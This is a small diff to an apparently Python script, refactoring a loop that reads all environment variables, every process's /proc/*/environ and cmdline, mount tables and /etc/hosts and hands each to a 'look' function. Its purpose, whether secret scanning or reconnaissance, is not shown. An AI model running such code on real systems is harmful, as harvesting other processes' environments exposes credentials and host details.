@@ -59,7 +59,8 @@ def tree(root):
 for place in asked["roots"]:
     tree(os.path.expanduser(place))
 look("the environment", "\n".join(f"{k}={v}" for k, v in os.environ.items()).encode())
-for path in ["/proc/self/mountinfo", "/proc/mounts", "/etc/hostname", "/etc/hosts", *glob.glob("/proc/[0-9]*/environ"), *glob.glob("/proc/[0-9]*/cmdline")]:
+processes = glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline")
+for path in ["/proc/self/mountinfo", "/proc/mounts", "/etc/hostname", "/etc/hosts", *processes]:
     try:
         with open(path, "rb") as f:
             look(path, f.read())
